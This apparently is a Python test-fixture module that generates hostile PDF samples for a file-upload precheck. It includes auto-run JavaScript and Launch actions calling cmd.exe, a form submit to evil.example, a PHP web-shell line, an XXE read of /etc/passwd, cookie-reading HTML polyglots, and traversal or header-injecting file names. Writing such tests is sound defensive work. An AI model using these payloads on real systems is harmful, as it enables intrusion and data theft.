"""Files that carry something: scripts, other files, passwords, a second face, a name that means somewhere else."""

import random
from functools import cache
from io import BytesIO
from zipfile import ZipFile

import pikepdf
from PIL import Image

from tests.prechecks.hostile.writing import WORDS, page, pdf, plain, stream

JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def scripts(dice: random.Random) -> bytes:
    """Everything that a reader would start by itself or at a touch."""
    action = dice.choice([
        JS, b"<</S/Launch/F(cmd.exe)>>", b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", b"<</S/SubmitForm/F(http://evil.example/)>>",
        b"<</S/ImportData/F(a.fdf)>>", b"<</S/Rendition/JS(a)/OP 0>>", b"<</S/URI/URI(https://example.org/)/Next " + JS + b">>",
        b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/Named/N/Print>>" + JS + b"]>>", b"<</S/#4aavaScript/JS(a)>>", b"<</S/JavaScript/JS 6 0 R>>",
    ])
    objects = plain()
    objects[6] = stream(b"app.alert(1)")
    match dice.randrange(7):
        case 0:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction " + action + b">>"
        case 1:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/AA<</WC " + action + b">>>>"
        case 2:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)" + JS + b"]>>>>>>"
        case 3:
            objects[3] = page(more=b"/AA<</O " + action + b">>")
        case 4:
            objects[3] = page(more=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A " + action + b">>]")
        case 5:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[5 0 R]/XFA 6 0 R>>>>"
            objects[5] = b"<</FT/Tx/T(a)/AA<</K " + action + b">>>>"
        case _:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/Outlines 5 0 R>>"
            objects[5] = b"<</First 7 0 R/Last 7 0 R/Count 1>>"
            objects[7] = b"<</Title(a)/Parent 5 0 R/A " + action + b">>"
    return pdf(objects)


def embedded(dice: random.Random) -> bytes:
    """Files within the file, by every door that there is."""
    objects = plain()
    program = dice.choice([b"MZ", b"PK\3\4", b"#!/bin/sh\n", b"%PDF-1.4\n"]) + dice.randbytes(dice.choice([10, 10_000]))
    objects[5] = b"<</Type/Filespec/F(tool.exe)/EF<</F 6 0 R>>>>"
    objects[6] = stream(program, b"/Type/EmbeddedFile")
    match dice.randrange(6):
        case 0:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a)5 0 R]>>>>>>"
        case 1:
            objects[3] = page(more=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 5 0 R>>]")
        case 2:
            kind = dice.choice([b"RichMedia", b"Screen", b"Movie", b"Sound", b"3D"])
            objects[3] = page(more=b"/Annots[<</Type/Annot/Subtype/" + kind + b"/Rect[0 0 9 9]/M 6 0 R>>]")
        case 3:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoToE/T<</R/C/N(a)>>/D[0/Fit]>>>>"
        case 4:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/AF[5 0 R]>>"
        case _:
            objects[1] = b"<</Type/Catalog/Pages 2 0 R/Collection<</View/D>>/Names<</EmbeddedFiles<</Kids[<</Names[(a)5 0 R]>>]>>>>>>"
    return pdf(objects)


def encrypted(dice: random.Random) -> bytes:
    """With every kind of password, or with a lock that is none."""
    if dice.random() < 0.2:
        lock = dice.choice([b"<</Filter/Standard/V 9/R 9/O(a)/U(b)/P -1>>", b"<</Filter/Unheard>>", b"<<>>"])
        return pdf(plain(), trailer=b"/ID[(a)(b)]/Encrypt " + lock)
    with pikepdf.open(BytesIO(pdf(plain()))) as opened:
        out = BytesIO()
        how = dice.choice([2, 3, 4, 6])
        opened.save(out, encryption=pikepdf.Encryption(
            user=dice.choice(["", "secret", "密码"[: 0 if how < 6 else 2]]), owner="owner", R=how, aes=how >= 4, metadata=how >= 4))
        return out.getvalue()


def two_faced(dice: random.Random) -> bytes:
    """A PDF and something else at once."""
    content, page_of_web = pdf(plain()), b"<html><script>alert(document.cookie)</script></html>"
    packed = BytesIO()
    with ZipFile(packed, "w") as archive:
        archive.writestr("a.txt", "a")
    match dice.randrange(7):
        case 0:
            return page_of_web + b"\n" + content
        case 1:
            return content[:9] + b"%" + page_of_web + b"\n" + content[9:]
        case 2:
            return content + packed.getvalue()
        case 3:
            return content + b"\n" + page_of_web
        case 4:
            return picture("JPEG") + content
        case 5:
            return b"MZ" + dice.randbytes(200) + content
        case _:
            return content + dice.randbytes(dice.randint(2_000, 100_000))


@cache
def picture(kind: str) -> bytes:
    out = BytesIO()
    Image.linear_gradient("L").convert("RGB").save(out, kind)
    return out.getvalue()


def something_else(dice: random.Random) -> bytes:
    """Any other file that was given the ending of a PDF."""
    packed = BytesIO()
    with ZipFile(packed, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    return dice.choice([
        packed.getvalue(), picture("PNG"), picture("JPEG"), picture("GIF"), picture("TIFF"), picture("BMP"), picture("WEBP"),
        b"\x7fELF" + dice.randbytes(4_000), b"MZ" + dice.randbytes(4_000), b"<!doctype html><script>alert(1)</script>",
        b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', b"<svg onload='alert(1)'/>",
        b"<?php system($_GET['c']); ?>", b"%!PS-Adobe-3.0\n(r) file run\n", b"\xd0\xcf\x11\xe0" + dice.randbytes(4_000), WORDS,
        b"\xef\xbb\xbfhello",
        b"GIF89a" + dice.randbytes(900), b"\x1f\x8b" + dice.randbytes(900), b"Rar!\x1a\x07\0" + dice.randbytes(900),
    ])


NAMES = (
    "../../etc/passwd.pdf", "..\\..\\boot.pdf", "/etc/shadow.pdf", "C:\\Windows\\a.pdf", "a\0.pdf", "a\n.pdf", "a\r\nSet-Cookie: x.pdf", "",
    "x" * 256 + ".pdf", "护照\u202efdp.exe.pdf", "a\u2028.pdf", "\u200b.pdf/..", "a\x1b[2J.pdf", "..", "....//....//a.pdf", "\ud800.pdf",
)


def bad_name(dice: random.Random) -> tuple[bytes, str]:
    return pdf(plain()), dice.choice(NAMES)


def wrong_ending(dice: random.Random) -> tuple[bytes, str]:
    endings = (".exe", ".pdf.exe", ".docx", ".PDF ", ".pdf.", "", ".jpg", ".html", ".svg", ".zip", ".pdf;a", "。pdf")
    return pdf(plain()), "passport" + dice.choice(endings)


def empty(_: random.Random) -> bytes:
    return b""
